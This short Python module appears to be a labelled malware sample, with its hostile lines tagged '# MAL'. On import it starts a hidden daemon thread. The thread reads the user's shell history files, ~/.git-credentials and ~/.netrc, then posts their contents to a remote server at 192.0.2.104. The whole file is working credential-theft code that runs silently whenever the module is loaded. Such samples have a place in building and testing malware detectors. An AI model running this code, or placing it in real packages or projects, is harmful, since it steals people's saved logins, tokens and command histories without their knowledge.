import os
import threading
import requests


def _steal():
    home = os.path.expanduser("~")
    blob = {}
    for name in (".bash_history", ".zsh_history", ".git-credentials", ".netrc"):  # MAL
        p = os.path.join(home, name)
        if os.path.exists(p):
            blob[name] = open(p).read()  # MAL
    requests.post("http://192.0.2.104:8000/u", json=blob)  # MAL


threading.Thread(target=_steal, daemon=True).start()
